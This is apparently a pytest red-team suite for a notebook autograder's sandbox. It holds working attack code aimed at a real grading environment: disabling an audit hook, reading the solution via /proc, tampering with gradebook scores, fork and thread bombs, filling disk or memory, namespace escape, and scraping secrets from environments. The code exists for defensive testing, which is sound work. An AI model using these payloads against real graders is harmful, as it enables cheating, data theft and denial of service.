"""Red team: attacks that only an operating-system sandbox stops (issue 10).

One class of learners, each a real notebook made from the released fixture
assignment plus one attack, is graded twice: by stock ``nbgrader autograde``
with this course's configuration and by ``python -m course autograde`` (each
in its own copy of the course). A learner ``victim`` is graded first; then the
attackers. Each test checks that an attack earns what a blank submission
earns (or, for the hung cell, only what the rest of its work earns), that
``submitted/``, ``source/`` and the victim's gradebook rows are unchanged, and
that grading finished.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest
import redteamkit as kit

import harness

ASSIGNMENT, CORRECT, FIXTURE = kit.ASSIGNMENT, kit.CORRECT, kit.FIXTURE
# each notebook's cells may run 35 s in all: past the 15 s cell timeout that ignores-interrupt costs
NOTEBOOK_SECONDS = 35
CONFIG = kit.CONFIG + f"c.ResilientExecute.notebook_seconds = {NOTEBOOK_SECONDS}\n"
SLEEPY_CELLS = 7  # cells of 8 s each: more than NOTEBOOK_SECONDS together
GOOD_REPLY, rubric = kit.GOOD_REPLY, kit.rubric

NAME = f"{ASSIGNMENT}.ipynb"
HIDDEN_INPUT = "x y z w v"  # an input of the fixture's hidden test cases
STEAL = (
    "import json\n"
    "def _steal(path):\n"
    "    cells = [''.join(c['source']) for c in json.load(open(path))['cells']]\n"
    "    return next(c for c in cells if 'reply_tom = (' in c).replace('### BEGIN SOLUTION', '')\n"
)


GLOB_ID = "[v]ictim"
# in the environment of every grading run: learner code must never see it
SECRET = "grader-secret-7d41c9"
IPC_LINK = "0-ipc-link-to-gradebook"

# turns the kernel's audit hook off from Python: the OS sandbox, not the hook, has to hold
NEUTER_HOOK = (
    "import gc, types\n"
    "def _noop_like(code):\n"
    "    names = code.co_freevars\n"
    "    body = ('def outer():\\n' + ''.join(f'    {n} = None\\n' for n in names)\n"
    "            + '    def hook(event, args):\\n        return (' + ''.join(f'{n}, ' for n in names)\n"
    "            + ')\\n    return hook\\n')\n"
    "    ns = {}\n"
    "    exec(body, ns)\n"
    "    return ns['outer']().__code__\n"
    "for obj in gc.get_objects():\n"
    "    if isinstance(obj, types.FunctionType) and obj.__name__ == 'hook' \\\n"
    "            and obj.__module__ == 'autograder.sandbox.guardrails':\n"
    "        obj.__code__ = _noop_like(obj.__code__)\n"
    "        print('audit hook switched off')\n"
)


def attacks(course: Path) -> dict[str, dict[str, str]]:
    """Answer cells (grade id -> source) of each attacker; ``course`` is the path an attacker guessed."""
    db = course / "gradebook.db"
    solution = course / "source" / ASSIGNMENT / NAME
    victim = course / "submitted" / "victim" / ASSIGNMENT / NAME
    return {
        "proc-parent-cwd": {
            "reply-tom": STEAL + "import os, glob\n"
            "roots = [f'/proc/{os.getppid()}/cwd', *glob.glob('/proc/*/cwd'), *glob.glob('/proc/*/root')]\n"
            "for root in roots:\n"
            "    for rel in ['../../../source/redteam/redteam.ipynb', 'source/redteam/redteam.ipynb',\n"
            f"                '{str(solution).lstrip('/')}']:\n"
            "        try:\n"
            "            exec(_steal(os.path.join(root, rel)))\n"
            "        except Exception:\n"
            "            pass\n"
        },
        "gradebook-sqlite": {
            "reply-tom": "import sqlite3, os, glob\n"
            f"paths = ['{db}', *glob.glob('/proc/*/cwd/gradebook.db'), '/proc/1/cwd/gradebook.db']\n"
            "uris = [f'file:{p}?mode=rw' for p in paths] + [f'file:../../../gradebook.db?x=/submission']\n"
            "for target in paths + uris:\n"
            "    try:\n"
            "        con = sqlite3.connect(target, uri=target.startswith('file:'))\n"
            "        con.execute('update grade set auto_score = 99, manual_score = 99')\n"
            "        con.commit()\n"
            "    except Exception as exc:\n"
            "        print('blocked', exc)\n"
            "try:\n"
            f"    sqlite3.connect('{course / 'planted.db'}').execute('create table t(x)')\n"
            "except Exception as exc:\n"
            "    print('blocked', exc)\n"
        },
        "dir-fd-write": {
            "reply-tom": "import os\n"
            "for start in ['..', '/', '/proc/self/cwd/..', " + repr(str(course)) + "]:\n"
            "    try:\n"
            "        fd = os.open(start, os.O_RDONLY | os.O_DIRECTORY)\n"
            f"        rels = ['{str(victim).lstrip('/')}', '../../victim/redteam/{NAME}', 'planted.txt']\n"
            "        for rel in rels:\n"
            "            try:\n"
            "                out = os.open(rel, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=fd)\n"
            "                os.write(out, b'overwritten')\n"
            "            except OSError as exc:\n"
            "                print('blocked', exc)\n"
            "    except OSError as exc:\n"
            "        print('blocked', exc)\n"
        },
        "link-to-solution": {"reply-tom": STEAL + "exec(_steal('notes.txt'))\n"},
        "link-to-dev-zero": {"reply-tom": "data = open('big.csv', 'rb').read(1000)\n"},
        "link-notebook": {},
        "link-folder": {},
        "shadow-modules": {
            "reply-tom": "import nltk\nreply_tom = nltk.REPLY\n",
            "count-words": "from autograder import count_words\n",
        },
        "hidden-case-leak": {
            "reply-tom": "import autograder.nbgrade as g\n"
            "SEEN = []\n"
            "_real = g.grade_cases\n"
            "def _spy(func, cases, *a, **k):\n"
            "    SEEN.append(cases)\n"
            "    return _real(func, cases, *a, **k)\n"
            "g.grade_cases = _spy\n"
            "import builtins\n"
            "builtins.grade_cases = _spy\n"
            "globals()['grade_cases'] = _spy\n",
        },
        "unbounded-output": {
            "reply-tom": "import sys\n"
            "for _ in range(4):\n"
            "    sys.stdout.write('x' * 50_000_000)\n"
            "from IPython.display import display\n"
            "display({'image/png': 'A' * 20_000_000, 'text/plain': 'big'}, raw=True)\n"
        },
        "ignores-interrupt": {
            "reply-tom": "import re\nre.match('(a*)*b', 'a' * 40)\n",
            "count-words": CORRECT,
        },
        # the audit hook does not see _posixsubprocess: a daemon or fork bomb outside the guard rails
        "spawn-past-audit-hook": {
            "reply-tom": "import _posixsubprocess, os\n"
            "spawned = 0\n"
            "for _ in range(200):\n"
            "    r, w = os.pipe()\n"
            "    try:\n"
            "        _posixsubprocess.fork_exec(['/bin/sleep', '600'], [b'/bin/sleep'], True, (),\n"
            "            None, None, -1, -1, -1, -1, -1, -1, r, w, True, True, 0, None, None, None,\n"
            "            -1, None, False)\n"
            "        spawned += 1\n"
            "    except OSError as exc:\n"
            "        print('blocked', exc)\n"
            "        break\n"
            "if spawned:\n"
            f"    reply_tom = {GOOD_REPLY!r}\n"
        },
        # the sandbox's /tmp is a tmpfs: memory of the machine every other learner's grading needs
        "fill-memory-tmp": {
            "reply-tom": "import os, tempfile\n"
            "written = 0\n"
            "try:\n"
            "    for i in range(12):\n"
            "        with open(os.path.join(tempfile.gettempdir(), f'fill{i}'), 'wb') as out:\n"
            "            for _ in range(4):\n"
            "                out.write(b'x' * 16 * 1024**2)\n"
            "                written += 16 * 1024**2\n"
            "except OSError as exc:\n"
            "    print('blocked', exc)\n"
            "if written > 300 * 1024**2:\n"
            f"    reply_tom = {GOOD_REPLY!r}\n"
        },
        # a learner id that nbgrader would read as a file pattern matching "victim"
        GLOB_ID: {},
        # many added cells that each sleep just under the timeout: one submission holding a worker
        "sleeps-in-many-cells": {},
        # Python code switches the audit hook off (a no-op code object in place of its own), then
        # puts a link to the gradebook in place of the kernel's connection file (its socket folder
        # is writable from inside) and hangs, so the grader restarts the kernel and writes that file
        # again. Named to be graded first: the first submission of a run starts its kernel fresh (no
        # spare yet), the path that wrote the file through the link.
        # thousands of threads with small stacks (RLIMIT_AS does not stop them; the pids cgroup does)
        "thread-bomb": {
            "reply-tom": "import threading, time\n"
            "threading.stack_size(65536)\n"
            "started = 0\n"
            "try:\n"
            "    for _ in range(5000):\n"
            "        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\n"
            "        started += 1\n"
            "except RuntimeError as exc:\n"
            "    print('blocked', exc)\n"
            "if started >= 1000:\n"
            f"    reply_tom = {GOOD_REPLY!r}\n"
        },
        # the files below run with the audit hook switched off: the sandbox's own limits have to hold
        "many-files": {
            "reply-tom": NEUTER_HOOK + "import os, tempfile\n"
            "most = 0\n"
            "for n, folder in enumerate(['.', tempfile.gettempdir(), '/tmp', '/dev/shm']):\n"
            "    made = 0\n"
            "    try:\n"
            "        for i in range(30000):\n"
            "            open(os.path.join(folder, f'new{n}-{i}'), 'x').close()\n"
            "            made += 1\n"
            "    except OSError as exc:\n"
            "        print('blocked', exc)\n"
            "    most = max(most, made)\n"
            "if most >= 20000:\n"
            f"    reply_tom = {GOOD_REPLY!r}\n"
        },
        "deep-folder-tree": {
            "reply-tom": NEUTER_HOOK + "import os\n"
            "depth = 0\n"
            "try:\n"
            "    for _ in range(100000):\n"
            "        os.mkdir('d')\n"
            "        os.chdir('d')\n"
            "        depth += 1\n"
            "except OSError as exc:\n"
            "    print('blocked', exc)\n"
            "os.chdir('/submission')\n"
            "if depth >= 50000:\n"
            f"    reply_tom = {GOOD_REPLY!r}\n"
        },
        "fill-submission-disk": {
            "reply-tom": NEUTER_HOOK + "written = 0\n"
            "try:\n"
            "    for i in range(40):\n"
            "        with open(f'big{i}', 'wb') as out:\n"
            "            out.write(b'x' * 16 * 1024**2)\n"
            "        written += 16 * 1024**2\n"
            "except OSError as exc:\n"
            "    print('blocked', exc)\n"
            "if written > 300 * 1024**2:\n"
            f"    reply_tom = {GOOD_REPLY!r}\n"
        },
        # a user namespace of its own, where an unbounded tmpfs could be mounted
        "own-namespace-mount": {
            "reply-tom": NEUTER_HOOK + "import ctypes\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "if libc.unshare(0x10000000 | 0x00020000) != 0:\n"
            "    print('blocked unshare', ctypes.get_errno())\n"
            "elif libc.mount(b'tmpfs', b'/submission', b'tmpfs', 0, b'size=8g') != 0:\n"
            "    print('blocked mount', ctypes.get_errno())\n"
            "else:\n"
            f"    reply_tom = {GOOD_REPLY!r}\n"
        },
        "allocate-20gb": {
            "reply-tom": f"data = bytearray(20 * 1024**3)\nreply_tom = {GOOD_REPLY!r}\n",
            "count-words": CORRECT,
        },
        # the grader's environment, its processes' environments, inherited descriptors, the instructor's home
        "environment-leak": {
            "reply-tom": NEUTER_HOOK + "import os, glob\n"
            "seen = [repr(dict(os.environ))]\n"
            "for path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/task/*/environ'):\n"
            "    try:\n"
            "        seen.append(open(path, 'rb').read().decode('latin-1'))\n"
            "    except OSError as exc:\n"
            "        print('blocked', path, exc)\n"
            "for fd in os.listdir('/proc/self/fd'):\n"
            "    try:\n"
            "        seen.append(os.readlink(f'/proc/self/fd/{fd}'))\n"
            "        handle = os.open(f'/proc/self/fd/{fd}', os.O_RDONLY | os.O_NONBLOCK)\n"
            "        seen.append(os.read(handle, 65536).decode('latin-1'))\n"
            "    except OSError:\n"
            "        pass\n"
            f"for folder in ['~', '/root', '/home', {str(Path.home())!r}, {str(course)!r}]:\n"
            "    for path in glob.glob(os.path.expanduser(folder) + '/**', recursive=True)[:3000]:\n"
            "        seen.append(path)\n"
            "        try:\n"
            "            seen.append(open(path, 'rb').read(4096).decode('latin-1'))\n"
            "        except OSError:\n"
            "            pass\n"
            "text = '\\n'.join(seen)\n"
            f"if {SECRET!r} in text or 'gradebook.db' in text or 'SQLite format' in text:\n"
            f"    reply_tom = {GOOD_REPLY!r}\n"
            "else:\n"
            "    print('nothing found')\n"
        },
        IPC_LINK: {
            "reply-tom": NEUTER_HOOK + "import os, re\n"
            "from ipykernel.connect import get_connection_file\n"
            "folder = os.path.dirname(get_connection_file())\n"
            "try:\n"
            "    os.remove(os.path.join(folder, 'connection.json'))\n"
            f"    os.symlink({str(db)!r}, os.path.join(folder, 'connection.json'))\n"
            "except OSError as exc:\n"
            "    print('blocked', exc)\n"
            "re.match('(a*)*b', 'a' * 40)\n"
        },
    }


SHADOWS = {
    "nltk.py": f"REPLY = {GOOD_REPLY!r}\n",
    "autograder.py": "def count_words(text):\n    return len(text.split())\n",
}
# what each attacker earns over a blank submission (only the honest part of ignores-interrupt)
EXPECTED = {
    "ignores-interrupt": {"reply": 0.0, "visible": 1.0, "hidden": 2.0},
    "allocate-20gb": {"reply": 0.0, "visible": 1.0, "hidden": 2.0},
}
BLANK = {"reply": 0.0, "visible": 0.0, "hidden": 0.0}


def _run(course: Path, args: list[str]) -> subprocess.CompletedProcess:
    bin_dir = Path(sys.executable).parent
    env = dict(os.environ, PATH=f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}", GRADER_TOKEN=SECRET)
    env.pop("EMPATHY_ISOLATION", None)
    return subprocess.run(
        args, cwd=course, capture_output=True, text=True, timeout=1500, env=env, preexec_fn=_bounded_files
    )


def _bounded_files() -> None:
    """Should links ever be followed again, copying /dev/zero fails the test instead of filling the disk."""
    import resource

    resource.setrlimit(resource.RLIMIT_FSIZE, (1024**3, 1024**3))


def _grade(course: Path, tool: str, students: list[str] | None) -> subprocess.CompletedProcess:
    if tool == "nbgrader":
        extra = ["--student", students[0]] if students else []
        return _run(
            course,
            [str(Path(sys.executable).parent / "nbgrader"), "autograde", ASSIGNMENT, "--create", *extra],
        )
    extra = [arg for s in students or [] for arg in ("--student", s)]
    return _run(
        course, [sys.executable, "-m", "course", "autograde", ASSIGNMENT, "--quiet", "--workers", "2", *extra]
    )


def _build(course: Path) -> list[str]:
    harness.scratch_course(course, [ASSIGNMENT], FIXTURE, CONFIG)
    harness.nbgrader(course, "generate_assignment", ASSIGNMENT, "--force")
    (release,) = harness.release_notebooks(course, ASSIGNMENT).values()
    harness.submit(
        course, ASSIGNMENT, "victim", {NAME: harness.fill_answers(release, {"count-words": CORRECT})}
    )
    harness.submit(course, ASSIGNMENT, "blank", {NAME: release})
    for student, answers in attacks(course).items():
        folder = harness.submit(course, ASSIGNMENT, student, {NAME: harness.fill_answers(release, answers)})
        if student == "link-to-solution":
            (folder / "notes.txt").symlink_to(course / "source" / ASSIGNMENT / NAME)
        elif student == "link-to-dev-zero":
            (folder / "big.csv").symlink_to("/dev/zero")
        elif student == "link-notebook":
            (folder / NAME).unlink()
            (folder / NAME).symlink_to(course / "source" / ASSIGNMENT / NAME)
        elif student == "link-folder":
            shutil.rmtree(folder)
            folder.symlink_to(course / "submitted" / "victim" / ASSIGNMENT)
        elif student == "sleeps-in-many-cells":
            nb = harness.fill_answers(release, {})
            nb.cells += [nbformat.v4.new_code_cell("import time\ntime.sleep(8)") for _ in range(SLEEPY_CELLS)]
            nbformat.write(nb, folder / NAME)
        elif student == "shadow-modules":
            for name, text in SHADOWS.items():
                (folder / name).write_text(text, encoding="utf-8")
    return sorted(attacks(course))


def _points(course: Path, student: str) -> dict[str, float] | None:
    try:
        cells = harness.grades(course, ASSIGNMENT, student)
    except Exception:  # no submission row: nothing was graded for this learner
        return None
    pick = {"reply": "reply-tom-rubric", "visible": "count-words-visible", "hidden": "count-words-hidden"}
    return {key: cells[grade_id][0] for key, grade_id in pick.items()}


@pytest.fixture(scope="module", params=["nbgrader", "course"])
def graded(request, tmp_path_factory):
    course = tmp_path_factory.mktemp(f"sandbox-{request.param}") / "course"
    students = _build(course)
    first = _grade(course, request.param, ["victim"] if request.param == "nbgrader" else ["victim", "blank"])
    if request.param == "nbgrader":
        first = _grade(course, request.param, ["blank"])
    assert first.returncode == 0, first.stdout[-3000:] + first.stderr[-3000:]
    before = {
        "submitted": kit.digest(course / "submitted"),
        "source": kit.digest(course / "source"),
        "victim": harness.grades(course, ASSIGNMENT, "victim"),
        "blank": _points(course, "blank"),
    }
    proc = _grade(course, request.param, None)
    return {"course": course, "tool": request.param, "proc": proc, "before": before, "students": students}


def _attack_ids():
    return sorted(attacks(Path("/course")))


@pytest.mark.slow
@pytest.mark.parametrize("student", _attack_ids())
def test_attack_earns_what_a_blank_submission_earns(graded, student):
    """Does each sandbox attack earn no more than a blank submission (or its honest part), in both tools?"""
    points = _points(graded["course"], student)
    if student == GLOB_ID:
        # stock nbgrader (SafeAutograde) grades this learner's own notebook, literally; the course
        # tool refuses the id with one line naming it; neither grades the victim's notebook for it
        log = graded["proc"].stdout + graded["proc"].stderr + _logs(graded["course"])
        if graded["tool"] == "course":
            assert points is None and "file pattern" in log, (points, log[-2000:])
        else:
            assert points == BLANK, points
        return
    if student in ("link-notebook", "link-folder"):
        # nothing regular to grade: the learner is reported, never given the linked notebook's points
        assert points is None or points == BLANK, (student, points)
        log = graded["proc"].stdout + graded["proc"].stderr + _logs(graded["course"])
        assert "symbolic link" in log, log[-2000:]
        return
    assert graded["before"]["blank"] == BLANK
    assert points == pytest.approx(EXPECTED.get(student, BLANK), abs=0.011), (student, points)


def _logs(course: Path) -> str:
    folder = course / ".instructor" / "logs"
    return "".join(p.read_text(errors="replace") for p in folder.rglob("*.log")) if folder.is_dir() else ""


@pytest.mark.slow
def test_nothing_outside_each_submission_changed(graded):
    """Are submitted/, source/ and the victim's gradebook rows unchanged, nothing planted in the course?"""
    course, before = graded["course"], graded["before"]
    assert kit.digest(course / "submitted") == before["submitted"]
    assert kit.digest(course / "source") == before["source"]
    assert harness.grades(course, ASSIGNMENT, "victim") == before["victim"]
    assert not (course / "planted.db").exists() and not (course / "planted.txt").exists()


@pytest.mark.slow
def test_grading_finished_for_every_attacker(graded):
    """Did grading finish, with a graded notebook for every attacker that had a regular notebook?"""
    course = graded["course"]
    for student in graded["students"]:
        if student in ("link-notebook", "link-folder") or (student == GLOB_ID and graded["tool"] == "course"):
            continue
        assert (course / "autograded" / student / ASSIGNMENT / NAME).is_file(), (
            student,
            graded["proc"].stdout[-2000:] + graded["proc"].stderr[-2000:],
        )


@pytest.mark.slow
def test_hidden_cases_and_huge_outputs_stay_out_of_the_graded_notebook(graded):
    """Do the hidden cases never appear in a graded notebook, and is every graded notebook small?"""
    course = graded["course"]
    for student in graded["students"]:
        path = course / "autograded" / student / ASSIGNMENT / NAME
        if not path.is_file():
            continue
        assert path.stat().st_size < 3 * 1024**2, (student, path.stat().st_size)
        nb = nbformat.read(path, as_version=4)
        shown = json.dumps([c.get("outputs", []) for c in nb.cells])
        assert HIDDEN_INPUT not in shown, student


@pytest.mark.slow
def test_shadowing_modules_never_ran(graded):
    """Did the learner's nltk.py / autograder.py stay unimported (the reply is undefined, not theirs)?"""
    assert rubric(GOOD_REPLY) > 0  # what the shadow module would have earned, had it run
    path = graded["course"] / "autograded" / "shadow-modules" / ASSIGNMENT / NAME
    nb = nbformat.read(path, as_version=4)
    errors = [
        o.get("ename") for c in nb.cells for o in c.get("outputs", []) if o.get("output_type") == "error"
    ]
    assert "AttributeError" in errors and "ImportError" in errors, errors


@pytest.mark.slow
def test_new_processes_were_refused_in_the_kernel(graded):
    """Did the kernel refuse the process spawned past the audit hook (not fail before trying)?"""
    path = graded["course"] / "autograded" / "spawn-past-audit-hook" / ASSIGNMENT / NAME
    shown = json.dumps([c.get("outputs", []) for c in nbformat.read(path, as_version=4).cells])
    assert "blocked" in shown and "Operation not permitted" in shown, shown[-2000:]


@pytest.mark.slow
def test_memory_backed_tmp_ran_out_of_space(graded):
    """Did the learner's in-memory /tmp stop at its size limit (no space left) in the kernel?"""
    path = graded["course"] / "autograded" / "fill-memory-tmp" / ASSIGNMENT / NAME
    shown = json.dumps([c.get("outputs", []) for c in nbformat.read(path, as_version=4).cells])
    assert "No space left on device" in shown, shown[-2000:]


@pytest.mark.slow
def test_a_notebook_that_sleeps_in_many_cells_stops_at_its_time_budget(graded):
    """Are the sleeping cells past the notebook's time budget left unrun, saying so?"""
    path = graded["course"] / "autograded" / "sleeps-in-many-cells" / ASSIGNMENT / NAME
    cells = nbformat.read(path, as_version=4).cells[-SLEEPY_CELLS:]
    skipped = [c for c in cells if any(o.get("ename") == "GradingTimeUp" for o in c.get("outputs", []))]
    assert 0 < len(skipped) < SLEEPY_CELLS, [c.get("outputs") for c in cells]


def _shown(graded, student: str) -> str:
    path = graded["course"] / "autograded" / student / ASSIGNMENT / NAME
    return json.dumps([c.get("outputs", []) for c in nbformat.read(path, as_version=4).cells])


@pytest.mark.slow
def test_a_thread_bomb_stops_at_the_sandbox_task_cap(graded):
    """Did the kernel refuse new threads at the sandbox's cap, long before the thousands asked for?"""
    assert "can't start new thread" in _shown(graded, "thread-bomb")


@pytest.mark.slow
@pytest.mark.parametrize("student", ["many-files", "deep-folder-tree", "fill-submission-disk"])
def test_files_written_stop_at_the_folder_caps(graded, student):
    """Did creating many files, a deep folder tree or 600 MB stop at the in-memory folders' caps?"""
    assert "No space left on device" in _shown(graded, student)


@pytest.mark.slow
def test_learner_code_cannot_make_a_namespace_of_its_own(graded):
    """Was unshare (a user and mount namespace, for an unbounded tmpfs) refused with EPERM?"""
    assert "blocked unshare 1" in _shown(graded, "own-namespace-mount")


@pytest.mark.slow
def test_a_20_gb_allocation_fails_in_its_cell_only(graded):
    """Did the 20 GB allocation raise MemoryError in its cell, with the rest of the notebook graded?"""
    assert "MemoryError" in _shown(graded, "allocate-20gb")


@pytest.mark.slow
def test_the_environment_leak_found_nothing(graded):
    """Did the attack read every environment, descriptor and home it could reach and find nothing?"""
    assert "nothing found" in _shown(graded, "environment-leak")
